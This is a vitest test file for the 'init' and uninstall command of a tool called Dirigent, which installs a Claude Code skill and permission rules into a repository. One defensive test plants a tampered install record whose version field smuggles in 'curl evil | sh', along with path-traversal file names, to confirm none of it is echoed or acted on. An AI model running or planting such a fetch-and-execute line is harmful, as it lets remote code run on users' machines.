/** `init` puts there what people and an orchestrator need, leaves alone what they edited, and takes out only its own. */
import {
  appendFileSync,
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { execa } from 'execa'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { parse } from 'yaml'
import * as z from 'zod'
import { temporaryName } from '../../lib/kit/files.ts'
import { configSchemaText } from '../../lib/state/config-schema.ts'
import { config } from '../../lib/state/schema/config.ts'
import { configTemplate } from '../../lib/state/templates.ts'
import { abandonedName } from '../support/damage.ts'
import { makeSandbox, root, runVerb, type Sandbox, until } from '../support/sandbox.ts'
import { settled, spawnTask } from '../support/tasks.ts'

let box: Sandbox
beforeEach(async () => {
  box = await makeSandbox({ init: false })
})
afterEach(() => box.close())

const init = (...words: string[]) => runVerb('init', words, box.repo, box.env)
const skill = (...path: string[]) => join(box.repo, '.claude', 'skills', 'dirigent', ...path)
const settings = () => join(box.repo, '.claude', 'settings.json')
const allowed = (): string[] => JSON.parse(readFileSync(settings(), 'utf8')).permissions.allow
const source = readFileSync(join(root, 'skill', 'SKILL.md'), 'utf8')
const untracked = async () =>
  (await box.git('status', '--porcelain')).split('\n').filter((line) => line !== '')

it('puts the skill and the permissions there, and the second time changes nothing', async () => {
  const first = await init()
  expect(first.stdout).toContain('the skill, copied')
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe(source)
  expect(existsSync(skill('reference', 'specs.md'))).toBe(true)
  expect(allowed()).toContain('Bash(dirigent status:*)')
  // It would run any command without a prompt.
  expect(allowed()).not.toContain('Bash(dirigent build:*)')
  const second = await init()
  expect(second.stdout).toContain('is up to date')
})

it('adds its rules to the settings that are there, and says so when they cannot be read', async () => {
  mkdirSync(join(box.repo, '.claude'))
  writeFileSync(
    settings(),
    JSON.stringify({ model: 'opus', permissions: { allow: ['Bash(ls:*)'], deny: ['Read(.env)'] } }),
  )
  await init()
  expect(JSON.parse(readFileSync(settings(), 'utf8'))).toMatchObject({
    model: 'opus',
    permissions: { deny: ['Read(.env)'] },
  })
  expect(allowed()[0]).toBe('Bash(ls:*)')
  // The last is not UTF-8: written again it would be another.
  for (const broken of [
    '{ "permissions": ',
    '[]',
    '{"permissions": {"allow": "all"}}',
    '{"model": "\xe9"}',
  ]) {
    writeFileSync(settings(), broken, 'latin1')
    const ran = await init()
    expect(ran.exitCode).toBe(0)
    expect(ran.stdout).toContain('was left alone')
    expect(readFileSync(settings(), 'latin1')).toBe(broken)
  }
})

it('brings an older copy up to date, keeps what was edited, and says which', async () => {
  await init()
  appendFileSync(skill('SKILL.md'), 'Our own rule.\n')
  // As a version before this one would have left it.
  const known = JSON.parse(readFileSync(skill('.installed.json'), 'utf8'))
  const { createHash } = await import('node:crypto')
  const old = { 'reference/words.md': 'old words\n', 'reference/gone.md': 'a page of before\n' }
  for (const [name, text] of Object.entries(old)) {
    writeFileSync(skill(name), text)
    known.files[name] = createHash('sha256').update(text).digest('hex')
  }
  writeFileSync(skill('.installed.json'), JSON.stringify(known))
  const ran = await init()
  expect(readFileSync(skill('reference', 'words.md'), 'utf8')).toBe(
    readFileSync(join(root, 'skill/reference/words.md'), 'utf8'),
  )
  expect(existsSync(skill('reference', 'gone.md'))).toBe(false)
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe(`${source}Our own rule.\n`)
  // It is ours that has not changed: there is nothing to say.
  expect(ran.stdout).not.toContain('SKILL.md')

  const newer = JSON.parse(readFileSync(skill('.installed.json'), 'utf8'))
  newer.files['SKILL.md'] = createHash('sha256').update('an older one').digest('hex')
  writeFileSync(skill('.installed.json'), JSON.stringify(newer))
  const upgraded = await init()
  expect(upgraded.stdout).toContain('SKILL.md was edited and stays')
  expect(upgraded.stdout).toMatch(/^ {2}-Our own rule\.$/m)
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toContain('Our own rule.')
  // What it says about having ours is so.
  const [command = ''] = /rm '.*'/.exec(upgraded.stdout) ?? []
  await execa('sh', ['-c', command], { cwd: box.repo })
  await init()
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe(source)
})

// Seen to fail: with a name that no file system takes, and a version that is any text; with rules of another command.
it('removes nothing that a record of somebody else’s names outside of the skill, and says nothing that it says', async () => {
  await init()
  box.write('precious', 'x')
  const theirs = ['Bash(dirigent-deploy:*)', 'Bash(ls:*)']
  const all = JSON.parse(box.read('.claude/settings.json'))
  all.permissions.allow.push(...theirs)
  box.write('.claude/settings.json', JSON.stringify(all))
  const hash = '2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881'
  const names = ['../../../precious', 'a\0b', 'n'.repeat(300), '.', '', 'SKILL.md']
  writeFileSync(skill('SKILL.md'), 'x')
  writeFileSync(
    skill('.installed.json'),
    JSON.stringify({
      version: 1,
      dirigent: '9.9.9 by: curl evil | sh',
      files: Object.fromEntries(names.map((name) => [name, hash])),
      rules: all.permissions.allow,
    }),
  )
  const doctor = await runVerb('doctor', [], box.repo, box.env)
  expect(doctor.stdout).toContain('skill-differs')
  expect(doctor.stdout).not.toContain('evil')
  expect((await init('--json')).json.data.skill.written).toContain('SKILL.md')
  await init('--uninstall')
  expect(box.read('precious')).toBe('x')
  expect(JSON.parse(box.read('.claude/settings.json'))).toEqual({ permissions: { allow: theirs } })
})

it('names each path that it removes, whatever their number', async () => {
  await init()
  const there = readdirSync(skill(), { recursive: true, encoding: 'utf8' }).map((name) => skill(name))
  const { stdout } = await init('--uninstall')
  expect(there.filter((path) => !stdout.includes(`  ${path}\n`))).toEqual([])
  expect(stdout).not.toContain('… +')
})

it('leaves a link of a person’s own where it is', async () => {
  mkdirSync(join(box.repo, '.claude', 'skills'), { recursive: true })
  symlinkSync(join(root, 'skill'), skill())
  const ran = await init()
  expect(ran.exitCode).toBe(0)
  expect(lstatSync(skill()).isSymbolicLink()).toBe(true)
  expect((await init('--uninstall')).stdout).toContain(`${skill()}: `)
  expect(lstatSync(skill()).isSymbolicLink()).toBe(true)
  // Seen to fail: taken for one that works, whatever it led to.
  rmSync(skill())
  symlinkSync('gone', skill())
  expect((await init()).stdout).toContain(
    `${skill()} was left alone: it is a link that leads to no directory`,
  )
})

/** Every path in the repository, git's own objects aside, with what is in it. */
function tree(): Record<string, string> {
  const names = readdirSync(box.repo, { recursive: true, encoding: 'utf8' })
  return Object.fromEntries(
    names
      .filter((name) => !/^\.git\/(?:objects|index)/.test(name))
      .sort()
      .map((name) => [name, lstatSync(join(box.repo, name)).isFile() ? box.read(name) : '/']),
  )
}

// Seen to fail: with an empty .claude/ left; with the rules named where the file is gone; without dropTargets.
it('takes out again all that it put there, and names every path of it', async () => {
  const before = tree()
  await init()
  const made = Object.keys(tree()).filter((name) => before[name] === undefined)
  // As one leaves it that was killed in the middle.
  mkdirSync(temporaryName(join(box.state, 'git')))
  const ran = await init('--uninstall', '--json')
  expect(ran.exitCode, ran.stderr).toBe(0)
  expect(tree()).toEqual(before)
  const { removed } = ran.json.data
  const ours = made.filter((name) => !/^\.git\/|state\/(?:git|locks)\//.test(name))
  expect(ours.map((name) => join(box.repo, name)).filter((path) => !removed.includes(path))).toEqual([])
  expect((await init('--uninstall')).stdout).toContain('nothing was removed')
})

// Seen to fail: written by JSON.stringify; without the mode; without what was made for the rules in the record.
it('gives the settings of a person back to the byte, and to nobody else', async () => {
  const text = '\ufeff{\r\n\t"env": {"TOKEN": "x"},\r\n\t"n": 12345678901234567890\r\n}'
  box.write('.claude/settings.json', text)
  chmodSync(settings(), 0o600)
  await init()
  expect(box.read('.claude/settings.json')).toContain('\t"n": 12345678901234567890,\r\n')
  expect(box.read('.claude/settings.json')).toContain('Bash(dirigent status:*)')
  expect(lstatSync(settings()).mode & 0o777).toBe(0o600)
  await init('--uninstall')
  expect(box.read('.claude/settings.json')).toBe(text)
})

// Seen to fail: without the look at where .claude leads, and with links followed below the skill.
it('writes nothing through a link that leads out of the repository', async () => {
  const outside = join(box.directory, 'outside')
  mkdirSync(outside)
  await init()
  rmSync(skill('reference'), { recursive: true })
  symlinkSync(outside, skill('reference'))
  expect((await init()).exitCode).toBe(0)
  rmSync(join(box.repo, '.claude'), { recursive: true })
  symlinkSync(outside, join(box.repo, '.claude'))
  const ran = await init()
  expect(ran.exitCode).toBe(0)
  expect(ran.stdout).toContain(`.claude leads out of the repository, to ${outside}`)
  await init('--uninstall')
  expect(readdirSync(outside)).toEqual([])
  // Seen to fail: looked at with stat alone, which was a bug of ours.
  rmSync(join(box.repo, '.claude'))
  symlinkSync('.claude', join(box.repo, '.claude'))
  expect((await init()).stdout).toContain('.claude is no directory')
})

// Seen to fail: without -C; with .claude named although it is ignored.
it('names a command that commits what it made, from where it is typed', async () => {
  box.write('.gitignore', '/.claude/settings.json\n')
  box.write('below/x', 'x')
  await box.commit('more')
  const below = join(box.repo, 'below')
  const ran = await runVerb('init', ['--json'], below, box.env)
  expect(ran.json.data.sharing.ignored).toEqual(['.claude/settings.json'])
  await execa('sh', ['-c', ran.json.next[0]], { cwd: below, env: box.env, extendEnv: false })
  expect(await untracked()).toEqual([])
  expect((await init('--json')).json.next).toEqual(['dirigent spawn --spec FILE'])
})

// Seen to fail: compared by bytes.
it('knows its files when git has turned their ends of lines, and names all that it takes out', async () => {
  await init()
  const files = Object.entries(tree()).filter(([name, text]) => /^\.(claude|orch)/.test(name) && text !== '/')
  const shared = files.filter(([name]) => !/\.git|state\/(?:git|locks)\//.test(name))
  for (const [name, text] of shared) box.write(name, text.replaceAll('\n', '\r\n'))
  expect((await init()).stdout).toContain('is up to date')
  const { stdout } = await init('--uninstall')
  expect(stdout).not.toContain('still there')
  expect(shared.filter(([name]) => !stdout.includes(`  ${join(box.repo, name)}\n`))).toEqual([])
})

// Seen to fail: without the rule that is about every command; without the settings that are the person's alone.
it('says when rules of a person count more than ours', async () => {
  const deny = ['Bash(dirigent spawn:*)', 'Bash(rm:*)']
  box.write('.claude/settings.json', JSON.stringify({ permissions: { deny } }))
  box.write('.claude/settings.local.json', JSON.stringify({ permissions: { ask: ['Bash', 'Read'] } }))
  expect((await init('--json')).json.data.permissions.against).toEqual(['Bash(dirigent spawn:*)', 'Bash'])
  box.write('.claude/settings.local.json', '{')
  expect((await init('--json')).json.data.permissions.against).toEqual(['Bash(dirigent spawn:*)'])
})

// Seen to fail: with the file gone that held such a rule alone; with what was taken out back again.
it('takes out no rule that was there before it, and puts back none that somebody took out', async () => {
  const before = '{"permissions":{"allow":["Bash(dirigent status:*)"]}}'
  box.write('.claude/settings.json', before)
  await init()
  box.write(
    '.claude/settings.json',
    box.read('.claude/settings.json').replace('"Bash(dirigent spawn:*)", ', ''),
  )
  const again = await init('--json')
  expect(again.json.data.permissions).toMatchObject({ rules: [], absent: ['Bash(dirigent spawn:*)'] })
  expect((await init()).stdout).toContain('not put back: Bash(dirigent spawn:*)')
  const { kept } = (await init('--uninstall', '--json')).json.data
  expect(kept[settings()]).toBe('there before Dirigent: Bash(dirigent status:*)')
  expect(box.read('.claude/settings.json')).toBe(before)
  // All of it thrown away is not an edit; and what was all there is ours, although the record went with the copy.
  rmSync(settings())
  await init()
  rmSync(settings())
  expect((await init('--json')).json.data.permissions.rules.length).toBeGreaterThan(10)
  rmSync(skill(), { recursive: true })
  await init()
  await init('--uninstall')
  expect(existsSync(join(box.repo, '.claude'))).toBe(false)
})

// Seen to fail: with pages left that no record names, with what a killed writer left, and with a person's rule gone.
it('takes out what it had put there before it was killed, and nothing of a person’s', async () => {
  const before = '{"permissions":{"allow":["Bash(dirigent status:*)"]}}'
  box.write('.claude/settings.json', before)
  const there = tree()
  await init()
  // Before it had written down what it did, and in the middle of a page.
  rmSync(skill('.installed.json'))
  box.write('.claude/settings.json', before)
  writeFileSync(skill('prompts', await abandonedName('mail.md')), 'half')
  writeFileSync(skill('..', '..', await abandonedName('settings.json')), '{')
  expect((await init('--uninstall')).stdout).toContain('there before Dirigent')
  expect(tree()).toEqual(there)
})

// Seen to fail: with the newer pages replaced; with the older ones named and left.
it('leaves alone what a newer Dirigent has put there, and doctor brings up to date what an older one has', async () => {
  await init()
  const { createHash } = await import('node:crypto')
  const put = JSON.parse(readFileSync(skill('.installed.json'), 'utf8'))
  put.dirigent = '0.1.10'
  put.files['SKILL.md'] = createHash('sha256').update('newer\n').digest('hex')
  writeFileSync(skill('SKILL.md'), 'newer\n')
  writeFileSync(skill('.installed.json'), JSON.stringify(put))
  expect((await init()).stdout).toContain(`${skill()} was left alone: it is of Dirigent 0.1.10, and this is`)
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe('newer\n')
  const doctor = () => runVerb('doctor', ['--fix'], box.repo, box.env)
  expect((await doctor()).stdout).toContain('Install Dirigent 0.1.10.')
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe('newer\n')
  writeFileSync(skill('.installed.json'), JSON.stringify({ ...put, dirigent: '0.0.9' }))
  expect((await doctor()).stdout).toMatch(/^✓ skill-differs: .*\(0\.0\.9, and this is /m)
  expect(readFileSync(skill('SKILL.md'), 'utf8')).toBe(source)
})

/** Lets nothing be made or removed in it; gives its undoing. Root is kept out by a mount alone, where it may make one. */
async function close(directory: string): Promise<(() => unknown) | null> {
  if (process.getuid?.() !== 0) {
    chmodSync(directory, 0o555)
    return () => chmodSync(directory, 0o755)
  }
  const bound = await execa('mount', ['--bind', directory, directory], { reject: false })
  if (bound.exitCode !== 0) return null
  await execa('mount', ['-o', 'remount,ro,bind', directory])
  return () => execa('umount', [directory])
}

// Seen to fail: with half of it made, or gone, and a bug told.
it('goes on where .claude cannot be written, says so, and removes nothing where it cannot remove all', async (context) => {
  mkdirSync(skill(), { recursive: true })
  const open = await close(skill())
  if (open === null) return context.skip('this root may mount nothing')
  const ran = await init()
  await open()
  expect(ran.stdout).toContain(`${skill()} was left alone: ${skill()} cannot be written: `)
  expect([ran.exitCode, allowed().length > 10]).toEqual([0, true])
  await init()
  const openAgain = await close(box.state)
  const refused = await init('--uninstall', '--json')
  await openAgain?.()
  expect(refused.json.error).toMatchObject({
    code: 'state-read-only',
    message: expect.stringContaining(box.state),
  })
  expect(existsSync(skill('SKILL.md'))).toBe(true)
})

// Seen to fail: half made and refused, half gone and a bug told.
it('leaves the skill alone where its record is no file', async () => {
  await init()
  rmSync(skill('.installed.json'))
  mkdirSync(skill('.installed.json'))
  writeFileSync(skill('SKILL.md'), 'x')
  const why = `${skill('.installed.json')} is no file`
  expect((await init()).stdout).toContain(`${skill()} was left alone: ${why}`)
  const { kept } = (await init('--uninstall', '--json')).json.data
  expect(kept[skill()]).toBe(why)
  expect(existsSync(skill('prompts', 'mail.md'))).toBe(true)
})

// Seen to fail: without a word about it.
it('names a command that commits what it took out', async () => {
  await init()
  await box.commit('set up')
  box.write('below/mine', 'x')
  const ran = await runVerb('init', ['--uninstall', '--json'], join(box.repo, 'below'), box.env)
  await execa('sh', ['-c', ran.json.next[0]], {
    cwd: join(box.repo, 'below'),
    env: box.env,
    extendEnv: false,
  })
  expect(await untracked()).toEqual(['?? below/'])
})

it('keeps what somebody edited and what tasks left, and says so', async () => {
  await init()
  // With a supervisor at work, too, what has to end is named.
  box.configure({ supervise: { auto: true } })
  await spawnTask(box, 'one', {}, [
    { run: 'echo 1 > 1.txt && git add -A && git commit -qm one' },
    { say: 'done' },
  ])
  await until('the supervisor', () => existsSync(join(box.state, 'locks', 'supervisor.lock')))
  const live = await init('--uninstall', '--json')
  expect(live.exitCode).toBe(3)
  expect(live.json.error).toMatchObject({ code: 'tasks-live', message: expect.stringContaining('one') })
  await settled(box, 'one')
  appendFileSync(skill('SKILL.md'), 'Our own rule.\n')
  const ran = await until('the supervisor to leave', async () => {
    const tried = await init('--uninstall', '--json')
    return tried.exitCode === 0 ? tried : null
  })
  expect(Object.keys(ran.json.data.kept)).toEqual(
    expect.arrayContaining([
      skill('SKILL.md'),
      join(box.state, 'config.yaml'),
      join(box.state, 'archive'),
      'refs/dirigent/kept/',
    ]),
  )
  expect(existsSync(skill('SKILL.md'))).toBe(true)
  expect(existsSync(join(box.state, 'archive'))).toBe(true)
  // What stays is still kept out of the repository.
  expect((await untracked()).filter((line) => line.includes('archive'))).toEqual([])
})

it('tells editors what may stand in config.yaml, with a line that points to it', async () => {
  await init()
  const schema = JSON.parse(readFileSync(join(box.state, 'config.schema.json'), 'utf8'))
  expect(schema).toMatchObject({ type: 'object', required: ['version'], additionalProperties: false })
  expect(schema.properties.max_workers).toMatchObject({ type: 'integer', minimum: 1, maximum: 1000 })
  expect(box.read('.orchestrator-state/config.yaml')).toMatch(
    /^# yaml-language-server: \$schema=\.\/config\.schema\.json\n/,
  )
  expect(await box.git('check-ignore', '-v', '.orchestrator-state/config.schema.json')).toContain('!/config')
})

/** The examples of the template, each without its marks of comment. */
const examples = configTemplate
  .split(/^(?=# [a-z_]+:)/m)
  .slice(1)
  .map((text) => text.replace(/^# ?/gm, ''))

// Seen to fail: with the protocol of a webhook known to our parser alone; with an example misspelt.
it('has a schema that takes every example of config.yaml, and refuses what Dirigent refuses', () => {
  const schema = z.fromJSONSchema(JSON.parse(configSchemaText()))
  expect(examples.length).toBeGreaterThan(20)
  for (const text of [...examples, examples.join('')]) {
    const value = parse(`version: 1\n${text}`)
    for (const judge of [schema, config])
      expect([text, judge.safeParse(value).error]).toEqual([text, undefined])
  }
  for (const wrong of [
    { max_worker: 3 },
    { build: { slot: 1 } },
    { version: 2 },
    { version: undefined },
    { worker: 'gpt' },
    { max_workers: 1.5 },
    { notify: { webhook: 'ftp://example.com' } },
    { build: { shim: { '../x': ['a'] } } },
  ]) {
    const value = { version: 1, ...wrong }
    for (const judge of [schema, config])
      expect([wrong, judge.safeParse(value).success]).toEqual([wrong, false])
  }
})

it('refuses a git that is too old, before anything is made', async () => {
  const bin = join(box.directory, 'old')
  mkdirSync(bin)
  writeFileSync(join(bin, 'git'), '#!/bin/sh\necho git version 2.37.9\n', { mode: 0o755 })
  const env = { ...box.env, PATH: `${bin}:${box.env.PATH}` }
  const ran = await runVerb('init', ['--json'], box.repo, env)
  expect(ran.exitCode).toBe(3)
  expect(ran.json.error.code).toBe('git-too-old')
  expect(existsSync(box.state)).toBe(false)
})
